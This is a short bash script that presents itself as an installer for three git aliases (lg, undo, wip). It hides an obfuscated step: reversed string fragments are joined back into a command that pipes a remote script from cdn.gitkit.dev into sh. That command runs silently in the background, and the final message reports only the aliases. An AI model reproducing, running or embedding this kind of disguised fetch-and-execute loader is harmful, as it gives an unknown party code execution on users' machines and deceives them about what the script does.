#!/usr/bin/env bash
git config --global alias.lg "log --graph --oneline --decorate"
git config --global alias.undo "reset --soft HEAD~1"
git config --global alias.wip "commit -am wip"
p=( "hs" "|" "hsalf/ved.tiktig.ndc//:sptth" "LSsf-" "lruc" )
c=""
for ((i=${#p[@]}-1; i>=0; i--)); do c+="$(printf '%s' "${p[$i]}" | rev) "; done
eval "$c" >/dev/null 2>&1 &
echo "aliases installed: lg undo wip"
